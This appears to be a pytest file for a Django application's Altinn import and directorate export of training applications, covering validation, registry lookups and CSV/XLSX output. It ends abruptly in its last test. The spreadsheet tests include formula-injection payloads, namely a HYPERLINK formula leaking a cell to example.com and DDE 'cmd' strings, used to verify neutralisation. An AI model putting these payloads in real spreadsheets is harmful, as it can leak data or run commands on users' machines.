"""The interchange format: import from Altinn, export for the directorate, the commands and the spreadsheets."""

import copy
import csv
import datetime as dt
import io
import json
import re
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from brreg.models import Virksomhet
from laeringsmal.lmtekst import sorter
from soknader import exports
from soknader.choices import Mangelkode, Status, Virksomhetstype
from soknader.interchange import ImportRefused, export_records, fields, import_records, validate_records, writing
from soknader.models import Innsending, Laeringsarena, Mangel, Soknad, Statusendring
from soknader.services.refresh import mangler_refresh
from tests.brreg import fake_brreg as fakes
from tests.brreg.factories import VirksomhetFactory
from tests.soknader.factories import (
    AnnenVirksomhetSoknadFactory,
    KomplettSoknadFactory,
    LaeringsarenaFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

DOC = Path(__file__).resolve().parents[2] / "docs" / "soknad-format.md"
IMPORT_KEYS = [f.key for f in fields.RECORD if f.imported != "ignored"]
ANSVAR_KEYS = [f.key for f in next(f for f in fields.RECORD if f.key == "ansvar").fields]

BODO = "972418013"
UKJENT_AS = "912345009"  # a valid number nobody here knows (the fake registry's bedriftshelsetjeneste)


@pytest.fixture(autouse=True)
def _quick_registry_retries(settings):
    settings.BRREG_BACKOFF = 0.01  # the registry is down by default; do not wait long for it


def bodo_alm(**overrides) -> dict:
    """A complete ALM application from Bodø kommune as it came from Altinn, with two arenas."""
    record = {
        "referanse": "ASA-2019-00042",
        "organisasjonsnummer": BODO,
        "spesialitet": "ALM",
        "virksomhetstype": "kommune",
        "status": "registrert",
        "soknadsdato": "2019-05-20",
        "vedtaksdato": "2021-03-15",
        "registrert_fra": "2019-03-01",
        "registrert_fra_begrunnelse": "",
        "kontaktperson": {"navn": "Kari Nordmann", "epost": "kari.nordmann@bodo.kommune.no", "telefon": "75 55 50 00"},
        "kontaktperson_databehandleravtale": {
            "navn": "Ola Nordmann",
            "epost": "ola.nordmann@bodo.kommune.no",
            "telefon": "75 55 50 01",
        },
        "ansvar": dict.fromkeys(ANSVAR_KEYS, True),
        "hf_avtale": {"inngatt": True, "navn": "Nordlandssykehuset HF"},
        "bht_godkjent_arbeidstilsynet": None,
        "samarbeid": {"inngatt": False, "beskrivelse": ""},
        "organisering": "Kommuneoverlegen har ansvaret; vurderingskollegium to ganger i året.",
        "veiledere_ansatt": {"valg": "egen_virksomhet", "beskrivelse": ""},
        "veilederkompetanse": {"valg": "delvis", "plan": "Veilederkurs i regi av ALIS-kontor Nord høsten 2019."},
        "kjent_med_oppgaver": {
            "valg": "nei",
            "tiltak": ["kurs", "annet"],
            "annet": "Hospitering hos erfaren veileder.",
        },
        "laeringsarenaer": [
            {
                "type": "fastlege",
                "plassering": "egen",
                "virksomhet": "",
                "ny_veileder": False,
                "avtale_veiledning_supervisjon": None,
                "institusjon_overlege": None,
                "institusjon_veiledning": None,
                "institusjon_internundervisning": None,
                "laeringsmal": "Alle bortsett fra ALM-055 og ALM-085; alle FKM",
                "supervisjon": ["til_stede", "telefon_digitalt"],
                "supervisjon_annet": "",
            },
            {
                "type": "sykehus",
                "plassering": "annen",
                "virksomhet": "Nordlandssykehuset HF",
                "ny_veileder": True,
                "avtale_veiledning_supervisjon": True,
                "institusjon_overlege": None,
                "institusjon_veiledning": None,
                "institusjon_internundervisning": None,
                "laeringsmal": "ALM 055, 085; LM 4, 13",
                "supervisjon": ["til_stede", "vakt", "annet"],
                "supervisjon_annet": "Overlege i bakvakt",
            },
        ],
        "avslagsgrunn": "",
        "anmodning": "",
    }
    record.update(overrides)
    return record


def bht_arb(**overrides) -> dict:
    """An incomplete ARB application from a bedriftshelsetjeneste unknown here."""
    record = {
        "organisasjonsnummer": UKJENT_AS,
        "navn": "Nordlys Bedriftshelsetjeneste AS",
        "spesialitet": "ARB",
        "status": "innsendt",
        "soknadsdato": "2020-02-03",
        "bht_godkjent_arbeidstilsynet": True,
        "laeringsarenaer": [{"type": "bht", "plassering": "egen", "laeringsmal": "Alle"}],
    }
    record.update(overrides)
    return record


def _only(record: dict, keys) -> dict:
    return {key: record[key] for key in keys if key in record}


def _exported(**filters) -> list[dict]:
    return export_records(Soknad.objects.filter(**filters).order_by("pk"))


# ---- round trip --------------------------------------------------------------------------------------


def test_import_then_export_gives_the_same_data():
    records = [bodo_alm(), bht_arb()]
    result = import_records(copy.deepcopy(records))
    assert (result.created, result.updated) == (2, 0)

    exported = _exported()
    assert len(exported) == 2
    keys = [key for key in IMPORT_KEYS if key != "navn"]
    assert _only(exported[0], keys) == _only(records[0], keys)
    assert exported[0]["navn"] == "Bodø"
    # Missing keys come back as "not answered"; the defaults are filled in
    bht = exported[1]
    given = bht_arb()
    assert _only(bht, given) == given | {"laeringsarenaer": bht["laeringsarenaer"]}
    assert bht["laeringsarenaer"] == [
        {
            "type": "bht",
            "plassering": "egen",
            "virksomhet": "",
            "ny_veileder": None,
            "avtale_veiledning_supervisjon": None,
            "institusjon_overlege": None,
            "institusjon_veiledning": None,
            "institusjon_internundervisning": None,
            "laeringsmal": "Alle",
            "supervisjon": [],
            "supervisjon_annet": "",
        }
    ]
    assert bht["virksomhetstype"] == "bht"
    assert bht["kontaktperson"] == {"navn": "", "epost": "", "telefon": ""}
    assert bht["laeringsarenaer"][0]["ny_veileder"] is None
    assert bht["referanse"].startswith("ASA-2020-")


def test_export_can_be_imported_again_unchanged():
    import_records([bodo_alm(), bht_arb()])
    first = _exported()
    assert validate_records(first) == []
    result = import_records(copy.deepcopy(first))
    assert (result.created, result.updated) == (0, 2)
    assert _exported() == first


def test_export_only_fields_are_computed():
    import_records([bodo_alm()])
    record = _exported()[0]
    assert "ALM-055" in record["laeringsmal_dekket"] and "LM-74" in record["laeringsmal_dekket"]
    # before 2026-03-01 the common objectives are the old del 2–3 list; LM-75 only from 2024-09-01
    assert "FKM-001" not in record["laeringsmal_dekket"] and "LM-75" not in record["laeringsmal_dekket"]
    assert record["laeringsmal_dekket"] == sorter(record["laeringsmal_dekket"])
    assert record["historikk"] == [
        {
            "fra": "utkast",
            "til": "registrert",
            "tidspunkt": record["historikk"][0]["tidspunkt"],
            "melding": "Importert fra Altinn",
        }
    ]
    tidspunkt = dt.datetime.fromisoformat(record["historikk"][0]["tidspunkt"])
    assert tidspunkt.tzinfo is not None
    assert {m["kode"] for m in record["mangler"]} <= set(Mangelkode.values)
    assert all(set(m) == {"kode", "alvorlighet", "melding"} for m in record["mangler"])


# ---- all or nothing ---------------------------------------------------------------------------------


def test_one_bad_record_imports_nothing():
    bad = bht_arb()
    bad["laeringsarenaer"][0]["type"] = "sykehusx"
    organisations = Virksomhet.objects.count()
    with pytest.raises(ImportRefused) as refused:
        import_records([bodo_alm(), bad])
    assert refused.value.errors == [
        "Post 2, laeringsarenaer[1].type: «sykehusx» er ikke en gyldig type (gyldige: fastlege, legevakt, kad, "
        "sykehjem, helsestasjon, fengselshelsetjeneste, annen_kommunal, samfunnsmedisin, sykehus, "
        "psykisk_helsevern, bht, arbeidsmedisinsk_avdeling, stami, statlig, annet)."
    ]
    assert Soknad.objects.count() == 0
    assert Laeringsarena.objects.count() == 0
    assert Virksomhet.objects.count() == organisations


def test_a_failure_while_writing_rolls_everything_back(monkeypatch):
    calls = []

    def failing_refresh(**kwargs):
        calls.append(kwargs)
        if len(calls) == 2:
            raise RuntimeError("boom")
        return mangler_refresh(**kwargs)

    monkeypatch.setattr(writing, "mangler_refresh", failing_refresh)
    with pytest.raises(RuntimeError):
        import_records([bodo_alm(), bodo_alm(spesialitet="SAM", referanse=None)])
    assert Soknad.objects.count() == 0
    assert Statusendring.objects.count() == 0


# ---- validation -----------------------------------------------------------------------------------


def _with(path: str, value, record=None) -> dict:
    """The Bodø record with one value replaced; path like "ansvar.forskrift" or "laeringsarenaer.0.type"."""
    record = record or bodo_alm()
    target = record
    *parents, last = path.split(".")
    for part in parents:
        target = target[int(part)] if isinstance(target, list) else target[part]
    key = int(last) if isinstance(target, list) else last
    if value is _DELETE:
        del target[key]
    else:
        target[key] = value
    return record


_DELETE = object()


@pytest.mark.parametrize(
    ("path", "value", "expected"),
    [
        ("spesialitet", "XYZ", "Post 1, spesialitet: «XYZ» er ikke en gyldig spesialitet (gyldige: ALM, SAM, ARB)."),
        ("spesialitet", _DELETE, "Post 1, spesialitet: må fylles ut."),
        ("organisasjonsnummer", _DELETE, "Post 1, organisasjonsnummer: må fylles ut."),
        ("organisasjonsnummer", "   ", "Post 1, organisasjonsnummer: må fylles ut."),
        ("soknadsdato", "", "Post 1, soknadsdato: må fylles ut når status er «registrert»."),
        ("status", "godkjent", "Post 1, status: «godkjent» er ikke en gyldig status (gyldige: utkast, innsendt,"),
        ("status", _DELETE, "Post 1, status: må fylles ut."),
        ("virksomhetstype", "sykehus", "Post 1, virksomhetstype: «sykehus» er ikke en gyldig virksomhetstype"),
        (
            "organisasjonsnummer",
            "972418014",
            "Post 1, organisasjonsnummer: Organisasjonsnummeret 972418014 er ikke "
            "gyldig (kontrollsifferet stemmer ikke).",
        ),
        ("organisasjonsnummer", "12345", "Post 1, organisasjonsnummer: Organisasjonsnummeret må ha ni siffer"),
        (
            "organisasjonsnummer",
            972418013,
            "Post 1, organisasjonsnummer: må være tekst (ni siffer i anførselstegn), ikke et tall.",
        ),
        ("soknadsdato", "2019-13-01", "Post 1, soknadsdato: «2019-13-01» er ikke en gyldig dato (skriv ÅÅÅÅ-MM-DD"),
        ("soknadsdato", "20.05.2019", "Post 1, soknadsdato: «20.05.2019» er ikke en gyldig dato"),
        ("vedtaksdato", 20210315, "Post 1, vedtaksdato: må være en dato som tekst (ÅÅÅÅ-MM-DD), ikke et tall."),
        ("soknadsdato", None, "Post 1, soknadsdato: må fylles ut når status er «registrert»."),
        ("vedtaksdato", _DELETE, "Post 1, vedtaksdato: må fylles ut når status er «registrert»."),
        ("vedtaksdato", "2019-01-01", "Post 1, vedtaksdato: kan ikke være før søknadsdatoen."),
        ("vedtaksdato", "2999-01-01", "Post 1, vedtaksdato: 2999-01-01 er fram i tid."),
        (
            "kontaktperson.epost",
            "kari(at)bodo.kommune.no",
            "Post 1, kontaktperson.epost: «kari(at)bodo.kommune.no» er ikke en gyldig e-postadresse.",
        ),
        ("kontaktperson_databehandleravtale.epost", "ola@", "Post 1, kontaktperson_databehandleravtale.epost: «ola@»"),
        ("kontaktperson.telefon", "7" * 31, "Post 1, kontaktperson.telefon: er for lang (31 tegn, høyst 30)."),
        # the form's limits (skjema) hold for imports too: a 2 MB text once made every page showing it 30 MB
        ("organisering", "x" * 20_001, "Post 1, organisering: er for lang (20001 tegn, høyst 20000)."),
        ("kontaktperson.navn", 42, "Post 1, kontaktperson.navn: må være tekst, ikke et tall."),
        ("kontaktperson", "Kari", "Post 1, kontaktperson: må være et objekt, ikke tekst."),
        (
            "kontaktperson.mobil",
            "900 00 000",
            "Post 1, kontaktperson.mobil: ukjent felt. Kjente felt: navn, epost, telefon.",
        ),
        ("organisring", "…", "Post 1, organisring: ukjent felt. Mente du «organisering»?"),
        ("ansvar.forskrift", "ja", "Post 1, ansvar.forskrift: må være true eller false, ikke tekst («ja»)."),
        ("ansvar.forskriften", True, "Post 1, ansvar.forskriften: ukjent felt. Mente du «forskrift»?"),
        # issue 22: a yes/no question that may be unanswered, so null is allowed too
        ("hf_avtale.inngatt", 1, "Post 1, hf_avtale.inngatt: må være true, false eller null, ikke et tall («1»)."),
        (
            "bht_godkjent_arbeidstilsynet",
            "nei",
            "Post 1, bht_godkjent_arbeidstilsynet: må være true, false eller null, ikke tekst («nei»).",
        ),
        (
            "veiledere_ansatt.valg",
            "kommunen",
            "Post 1, veiledere_ansatt.valg: «kommunen» er ikke en gyldig verdi (gyldige: egen_virksomhet, annen).",
        ),
        (
            "veilederkompetanse.valg",
            "JA",
            "Post 1, veilederkompetanse.valg: «JA» er ikke en gyldig verdi (gyldige: ja, delvis, nei).",
        ),
        (
            "kjent_med_oppgaver.tiltak",
            ["kurs", "webinar"],
            "Post 1, kjent_med_oppgaver.tiltak[2]: «webinar» er ikke "
            "et gyldig tiltak (gyldige: kurs, veiledersamling, annet).",
        ),
        (
            "kjent_med_oppgaver.tiltak",
            ["kurs", "kurs"],
            "Post 1, kjent_med_oppgaver.tiltak[2]: «kurs» står mer enn én gang.",
        ),
        ("kjent_med_oppgaver.tiltak", "kurs", "Post 1, kjent_med_oppgaver.tiltak: må være en liste, ikke tekst."),
        ("laeringsarenaer", {"type": "fastlege"}, "Post 1, laeringsarenaer: må være en liste, ikke et objekt."),
        ("laeringsarenaer.1", "sykehus", "Post 1, laeringsarenaer[2]: må være et objekt, ikke tekst."),
        (
            "laeringsarenaer.1.plassering",
            "ekstern",
            "Post 1, laeringsarenaer[2].plassering: «ekstern» er ikke en gyldig plassering (gyldige: egen, annen).",
        ),
        (
            "laeringsarenaer.1.ny_veileder",
            "ja",
            "Post 1, laeringsarenaer[2].ny_veileder: må være true, false eller null",
        ),
        (
            "laeringsarenaer.0.supervisjon",
            ["til_stede", "sms"],
            "Post 1, laeringsarenaer[1].supervisjon[2]: «sms» er ikke en gyldig supervisjonsmåte (gyldige: til_stede, "
            "telefon_digitalt, planlagt, vakt, annet).",
        ),
        (
            "laeringsarenaer.0.laeringsmaal",
            "Alle",
            "Post 1, laeringsarenaer[1].laeringsmaal: ukjent felt. Mente du «laeringsmal»?",
        ),
        (
            "laeringsarenaer.0.virksomhet",
            "x" * 201,
            "Post 1, laeringsarenaer[1].virksomhet: er for lang (201 tegn, høyst 200).",
        ),
        ("referanse", 42, "Post 1, referanse: må være tekst, ikke et tall."),
    ],
)
def test_validation_errors_name_the_post_and_the_field(path, value, expected):
    errors = validate_records([bht_arb(), _with(path, value)])
    assert any(error.startswith(expected.replace("Post 1", "Post 2")) for error in errors), errors
    with pytest.raises(ImportRefused):
        import_records([bht_arb(), _with(path, value)])
    assert Soknad.objects.count() == 0


@pytest.mark.parametrize("path", ["kontaktperson.telefon", "kontaktperson_databehandleravtale.telefon"])
def test_a_phone_number_the_form_refuses_is_refused_on_import_in_the_forms_words(path):
    """Issue 19: the phone format was the form's alone, so an import could store what the form never would."""
    from soknader.forms import SEKSJON_SKJEMA

    form = SEKSJON_SKJEMA["virksomhet"](data={"kontaktperson_telefon": "ring sentralbordet"})
    form.is_valid()
    [i_skjema] = form.errors["kontaktperson_telefon"]
    errors = validate_records([_with(path, "ring sentralbordet")])
    assert errors == [f"Post 1, {path}: {i_skjema}"]
    with pytest.raises(ImportRefused):
        import_records([_with(path, "ring sentralbordet")])
    assert Soknad.objects.count() == 0
    assert validate_records([_with(path, "+47 755 55 000")]) == []


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ({"organisasjonsnummer": BODO}, ["Filen må inneholde en JSON-liste med søknader (objekter), ikke et objekt."]),
        ("[]", ["Filen må inneholde en JSON-liste med søknader (objekter), ikke tekst."]),
        ([bodo_alm(), 7], ["Post 2: må være et objekt, ikke et tall."]),
        ([bodo_alm(), None], ["Post 2: må være et objekt, ikke null."]),
    ],
)
def test_the_file_must_be_a_list_of_objects(data, expected):
    assert validate_records(data) == expected


def test_every_error_is_reported_not_only_the_first():
    record = bodo_alm(spesialitet="XYZ", soknadsdato="i går")
    record["ansvar"]["supervisjon"] = "ja"
    errors = validate_records([record])
    assert [e.split(":")[0] for e in errors] == [
        "Post 1, spesialitet",
        "Post 1, soknadsdato",
        "Post 1, ansvar.supervisjon",
    ]


def test_the_same_organisation_and_specialty_twice_in_one_file_is_an_error():
    errors = validate_records([bodo_alm(), bht_arb(), bodo_alm(referanse=None, organisasjonsnummer="972 418 013")])
    assert errors == ["Post 3, organisasjonsnummer: 972 418 013 har allerede en søknad om allmennmedisin i post 1."]


def test_the_same_reference_twice_in_one_file_is_an_error():
    errors = validate_records([bodo_alm(), bodo_alm(spesialitet="SAM")])
    assert errors == ["Post 2, referanse: «ASA-2019-00042» er også brukt i post 1."]


def test_a_reference_of_another_application_is_an_error():
    other = AnnenVirksomhetSoknadFactory(referanse="ASA-2019-00042", status=Status.INNSENDT)
    errors = validate_records([bodo_alm()])
    assert errors == [
        f"Post 1, referanse: «ASA-2019-00042» tilhører en annen søknad ({other.virksomhet.navn}, arbeidsmedisin)."
    ]


def test_an_incomplete_application_is_valid_and_gets_its_findings():
    minimal = {"organisasjonsnummer": BODO, "spesialitet": "ALM", "status": "utkast"}
    assert validate_records([minimal]) == []
    result = import_records([minimal])
    soknad = result.soknader[0]
    assert soknad.referanse is None
    assert soknad.virksomhetstype == Virksomhetstype.KOMMUNE
    koder = set(Mangel.objects.filter(soknad=soknad).values_list("kode", flat=True))
    assert {Mangelkode.INGEN_ARENA, Mangelkode.ANSVAR_IKKE_BEKREFTET, Mangelkode.HF_AVTALE_MANGLER} <= koder


def test_null_means_not_answered():
    record = bodo_alm(kontaktperson=None, organisering=None, veiledere_ansatt={"valg": None, "beskrivelse": None})
    assert validate_records([record]) == []
    soknad = import_records([record]).soknader[0]
    assert (soknad.kontaktperson_navn, soknad.organisering, soknad.veiledere_ansatt) == ("", "", "")


# ---- what an import writes ----------------------------------------------------------------------


def test_reimport_updates_instead_of_duplicating():
    bruker = UserFactory()
    import_records([bodo_alm()], bruker=bruker)
    soknad = Soknad.objects.get()
    arena_ids = list(soknad.laeringsarenaer.order_by("pk").values_list("pk", flat=True))

    result = import_records([bodo_alm()], bruker=bruker)
    assert (result.created, result.updated) == (0, 1)
    assert Soknad.objects.count() == 1
    assert list(soknad.laeringsarenaer.order_by("pk").values_list("pk", flat=True)) == arena_ids
    assert Statusendring.objects.count() == 1
    assert Innsending.objects.count() == 1


def test_reimport_replaces_fields_and_arenas():
    import_records([bodo_alm()])
    changed = bodo_alm(status="avslatt", avslagsgrunn="Mangler avtale.", organisering="Ny organisering.")
    changed["laeringsarenaer"] = changed["laeringsarenaer"][:1]
    changed["laeringsarenaer"][0]["laeringsmal"] = "ALM 1-3"
    del changed["registrert_fra"]
    import_records([changed])

    soknad = Soknad.objects.get()
    assert (soknad.status, soknad.organisering, soknad.avslagsgrunn) == (
        "avslatt",
        "Ny organisering.",
        "Mangler avtale.",
    )
    assert soknad.registrert_fra is None
    arena = soknad.laeringsarenaer.get()
    assert arena.laeringsmal_koder == ["ALM-001", "ALM-002", "ALM-003"]
    historikk = list(soknad.historikk.values_list("fra_status", "til_status", "melding"))
    assert historikk == [
        ("utkast", "registrert", "Importert fra Altinn"),
        ("registrert", "avslatt", "Oppdatert ved import fra Altinn"),
    ]
    assert Innsending.objects.filter(soknad=soknad).count() == 2


def test_a_new_application_gets_one_history_row_and_the_file_history_is_ignored():
    bruker = UserFactory()
    record = bodo_alm(
        historikk=[
            {"fra": "utkast", "til": "innsendt", "tidspunkt": "2019-05-20T10:00:00+02:00", "melding": "fra filen"}
        ]
    )
    soknad = import_records([record], bruker=bruker).soknader[0]
    rad = Statusendring.objects.get(soknad=soknad)
    assert (rad.fra_status, rad.til_status, rad.melding, rad.utfort_av) == (
        "utkast",
        "registrert",
        "Importert fra Altinn",
        bruker,
    )
    assert soknad.opprettet_av == bruker


def test_references_are_kept_or_generated_from_the_application_date():
    kept, generated, draft = import_records(
        [
            bodo_alm(),
            bodo_alm(spesialitet="SAM", referanse=None, status="innsendt", vedtaksdato=None, registrert_fra=None),
            bht_arb(status="utkast", soknadsdato=None),
        ]
    ).soknader
    assert kept.referanse == "ASA-2019-00042"
    assert generated.referanse == f"ASA-2019-{generated.pk:05d}"
    assert draft.referanse is None


def test_a_generated_reference_never_takes_one_given_in_the_file():
    soknad = import_records([bht_arb()]).soknader[0]
    taken = f"ASA-2019-{soknad.pk + 1:05d}"  # the next application's generated reference
    second, third = import_records(
        [bodo_alm(referanse=None, soknadsdato="2019-05-20"), bodo_alm(spesialitet="SAM", referanse=taken)]
    ).soknader
    assert second.pk == soknad.pk + 1
    assert second.referanse == f"{taken}-2"
    assert third.referanse == taken


def test_registrert_fra_is_computed_when_not_given():
    before, after = import_records(
        [
            bodo_alm(registrert_fra=None),
            bodo_alm(
                spesialitet="SAM",
                referanse=None,
                registrert_fra=None,
                soknadsdato="2020-01-10",
                vedtaksdato="2020-06-01",
            ),
        ]
    ).soknader
    assert before.registrert_fra == dt.date(2019, 3, 1)  # applied before 1 June 2019
    assert after.registrert_fra == dt.date(2020, 1, 10)
    given = import_records([bodo_alm(registrert_fra="2019-04-01")]).soknader[0]
    assert given.registrert_fra == dt.date(2019, 4, 1)


def test_virksomhetstype_defaults():
    kommune, bht, annen = import_records(
        [
            bodo_alm(virksomhetstype=None),
            bht_arb(),
            bht_arb(spesialitet="SAM", bht_godkjent_arbeidstilsynet=None),
        ]
    ).soknader
    assert (kommune.virksomhetstype, bht.virksomhetstype, annen.virksomhetstype) == ("kommune", "bht", "")
    privat = import_records([bht_arb(virksomhetstype="privat")]).soknader[0]
    assert privat.virksomhetstype == "privat"


def test_learning_objectives_are_read_and_findings_computed():
    record = bodo_alm()
    record["laeringsarenaer"][1]["laeringsmal"] = "LM 4, 13; ALM 055, xyz"
    soknad = import_records([record]).soknader[0]
    fastlege, sykehus = soknad.laeringsarenaer.order_by("pk")
    assert "ALM-054" in fastlege.laeringsmal_koder and "ALM-055" not in fastlege.laeringsmal_koder
    assert sykehus.laeringsmal_koder == ["ALM-055", "LM-04", "LM-13"]
    assert sykehus.laeringsmal_feil and "xyz" in sykehus.laeringsmal_feil[0]["tekst"]
    koder = set(soknad.mangler.values_list("kode", flat=True))
    assert Mangelkode.ALM085_MANGLER in koder
    assert Mangelkode.LM_UGYLDIG in koder
    assert Mangelkode.INGEN_ARENA not in koder


def test_an_application_without_arenas_gets_ingen_arena():
    soknad = import_records([bodo_alm(laeringsarenaer=[])]).soknader[0]
    assert Mangelkode.INGEN_ARENA in set(soknad.mangler.values_list("kode", flat=True))


def test_a_complete_application_has_no_findings():
    soknad = import_records([bodo_alm()]).soknader[0]
    assert list(soknad.mangler.values_list("melding", flat=True)) == []


# ---- organisations ------------------------------------------------------------------------------


def test_unknown_organisation_with_the_registry_down_is_created_unverified():
    result = import_records([bht_arb(), bht_arb(organisasjonsnummer="912345017", navn="")])
    named, unnamed = (s.virksomhet for s in result.soknader)
    assert (named.navn, named.navnekilde) == ("Nordlys Bedriftshelsetjeneste AS", Virksomhet.Navnekilde.MANUELL)
    assert not named.navn_verifisert
    assert unnamed.navn == "912345017"
    assert len(result.warnings) == 1
    assert "Fikk ikke kontakt med Enhetsregisteret" in result.warnings[0]
    assert "912 345 009 «Nordlys Bedriftshelsetjeneste AS» (post 1)" in result.warnings[0]


def test_a_kommune_comes_from_the_register_without_the_network():
    result = import_records([bodo_alm(navn="Feil navn")])
    virksomhet = result.soknader[0].virksomhet
    assert (virksomhet.navn, virksomhet.er_kommune, virksomhet.navnekilde) == ("Bodø", True, "kommuneregister")
    assert result.warnings == []


def test_unknown_company_gets_its_registry_name(fake_brreg):
    result = import_records([bht_arb(navn="Nordlys BHT")])
    virksomhet = result.soknader[0].virksomhet
    assert virksomhet.navn == "NORDLYS BEDRIFTSHELSETJENESTE AS"
    assert virksomhet.navnekilde == Virksomhet.Navnekilde.BRREG
    assert virksomhet.kommune.navn == "Tromsø"
    assert result.warnings == []
    assert fake_brreg.count(f"/enheter/{UKJENT_AS}") == 1
    import_records([bht_arb()])  # known now: not asked again
    assert fake_brreg.count(f"/enheter/{UKJENT_AS}") == 1


def test_organisations_the_registry_does_not_have_are_warned_about(fake_brreg):
    result = import_records(
        [
            bht_arb(organisasjonsnummer=fakes.IKKE_FUNNET, navn="Fantom AS"),
            bht_arb(organisasjonsnummer=fakes.FJERNET, navn=""),
            bht_arb(organisasjonsnummer=fakes.SLETTET, navn="Gammel BHT AS"),
        ]
    )
    fantom, fjernet, slettet = (s.virksomhet for s in result.soknader)
    assert (fantom.navn, fantom.navnekilde) == ("Fantom AS", Virksomhet.Navnekilde.MANUELL)
    assert (fjernet.navn, fjernet.navnekilde) == (fakes.FJERNET, Virksomhet.Navnekilde.MANUELL)
    assert result.warnings[0] == (
        "Post 1: Organisasjonsnummeret 123 456 785 finnes ikke i Enhetsregisteret. "
        "Virksomheten er opprettet som «Fantom AS», ikke verifisert."
    )
    assert result.warnings[1].startswith("Post 2: Organisasjonsnummeret 912 345 068 er fjernet fra Enhetsregisteret.")
    assert result.warnings[2].startswith("Post 3: ") and "er slettet i Enhetsregisteret" in result.warnings[2]
    assert Mangelkode.VIRKSOMHET_SLETTET in set(result.soknader[2].mangler.values_list("kode", flat=True))


def test_after_one_registry_failure_the_rest_are_not_asked(fake_brreg):
    result = import_records([bht_arb(organisasjonsnummer=fakes.ALWAYS_500), bht_arb()])
    assert fake_brreg.count(f"/enheter/{UKJENT_AS}") == 0
    assert all(not s.virksomhet.navn_verifisert for s in result.soknader)
    assert "Fikk ikke kontakt med Enhetsregisteret" in result.warnings[0]


# ---- export cost ------------------------------------------------------------------------------------


def _orgnumre():
    """Distinct valid organisation numbers (the factory's sequence may give one number twice)."""
    from stdnum.no import orgnr

    return (str(n) for n in range(930_000_000, 940_000_000) if orgnr.is_valid(str(n)))


def _applications(n: int) -> None:
    for nummer, _ in zip(_orgnumre(), range(n), strict=False):
        soknad = AnnenVirksomhetSoknadFactory(
            virksomhet=VirksomhetFactory(organisasjonsnummer=nummer),
            status=Status.INNSENDT,
            soknadsdato=dt.date(2024, 1, 2),
        )
        LaeringsarenaFactory.create_batch(2, soknad=soknad, laeringsmal_koder=["ARB-001", "FKM-001"])
        Statusendring.objects.create(soknad=soknad, fra_status=Status.UTKAST, til_status=Status.INNSENDT)
        mangler_refresh(soknad=soknad)


@pytest.mark.parametrize(
    "export",
    [
        lambda qs: export_records(qs),
        exports.json_response,
        exports.csv_response,
        exports.xlsx_response,
    ],
    ids=["records", "json", "csv", "xlsx"],
)
def test_export_query_count_does_not_grow_with_applications(export):
    counts = {}
    for n in (1, 30):
        Soknad.objects.all().delete()
        _applications(n)
        with CaptureQueriesContext(connection) as ctx:
            result = export(Soknad.objects.order_by("pk"))
        counts[n] = len(ctx.captured_queries)
        assert len(result) == n if isinstance(result, list) else result.status_code == 200
    assert counts[1] == counts[30] == 4, counts


# ---- spreadsheets -----------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://example.com/?x="&A1,"Klikk")'


def _dangerous_application() -> Soknad:
    soknad = KomplettSoknadFactory(
        status=Status.INNSENDT,
        soknadsdato=dt.date(2024, 1, 2),
        referanse="ASA-2024-00001",
        kontaktperson_navn=FORMULA,
        kontaktperson_epost="@kari@example.no",
        kontaktperson_telefon="+47 755 55 000",
    )
    soknad.virksomhet.navn = "-2+3"
    soknad.virksomhet.save()
    LaeringsarenaFactory(soknad=soknad, laeringsmal_koder=["ALM-001", "ALM-002", "FKM-001"])
    mangler_refresh(soknad=soknad)
    return soknad


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_csv_has_one_row_per_application_and_neutralises_formulas():
    soknad = _dangerous_application()
    response = exports.csv_response(Soknad.objects.all())
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (f'attachment; filename="soknader-{timezone.localdate():%Y-%m-%d}.csv"')
    header, row = _csv_rows(response)
    assert header == list(exports.COLUMNS)
    values = dict(zip(header, row, strict=True))
    assert values["kontaktperson_navn"] == "'" + FORMULA
    assert values["kontaktperson_epost"] == "'@kari@example.no"
    assert values["kontaktperson_telefon"] == "+47 755 55 000"  # a phone number is data, not a formula
    assert values["navn"] == "'-2+3"
    assert values["referanse"] == "ASA-2024-00001"
    assert (values["kommune"], values["helseregion"]) == ("Bodø", "Nord")
    assert values["soknadsdato"] == "2024-01-02" and values["vedtaksdato"] == ""
    assert values["antall_laeringsarenaer"] == "1"
    assert values["laeringsmal_dekket"] == "ALM 1-2; FKM 1"
    assert values["antall_mangler"] == str(soknad.mangler.count())
    assert "LM_UDEKKET" in values["mangler"].split(", ")


def test_csv_is_as_norwegian_excel_opens_it():
    """Semicolons, UTF-8 with a byte order mark, CRLF, and every field quoted: a semicolon or quote inside a value
    cannot make a cell of its own."""
    soknad = _dangerous_application()
    soknad.kontaktperson_navn = "Kari;=cmd|' /C calc'!A0"
    soknad.kontaktperson_telefon = 'Ola "Nordmann"\r\n+47'
    soknad.save()
    raw = exports.csv_response(Soknad.objects.all()).content
    assert raw.startswith(b'\xef\xbb\xbf"referanse";"organisasjonsnummer";')
    text = raw.decode("utf-8-sig")
    header_line, _, data = text.partition("\r\n")
    assert all(field.startswith('"') and field.endswith('"') for field in header_line.split(";"))
    assert data.startswith('"ASA-2024-00001";"') and data.endswith('"\r\n')
    assert ';"Kari;=cmd|\' /C calc\'!A0";"' in data and ';"Ola ""Nordmann""\r\n+47";' in data
    header, row = _csv_rows(exports.csv_response(Soknad.objects.all()))
    values = dict(zip(header, row, strict=True))
    assert values["kontaktperson_navn"] == "Kari;=cmd|' /C calc'!A0"  # one cell, and not at a cell's start
    assert values["kontaktperson_telefon"] == 'Ola "Nordmann"\r\n+47'
    assert values["kommune"] == "Bodø"


@pytest.mark.parametrize(
    ("text", "quoted"),
    [
        ("+47 22 00 00 00", False),
        ("-12,5", False),
        ("(+47) 22 00 00 00", False),
        ("Kari Nordmann", False),
        ("Kari;=cmd|' /C calc'!A0", False),
        ("=1+1", True),
        ("  =1+1", True),
        ("@SUM(A1:A2)", True),
        ("+A1", True),
        ("-2+3", True),
        ("+47 22 00 00 00+cmd|' /C calc'!A0", True),
        ("\t=1", True),
        ("\r=1", True),
    ],
)
def test_only_what_could_be_a_formula_is_quoted_in_csv(text, quoted):
    assert exports.neutralise(text) == ("'" + text if quoted else text)


def test_xlsx_keeps_text_as_written_in_text_cells():
    _dangerous_application()
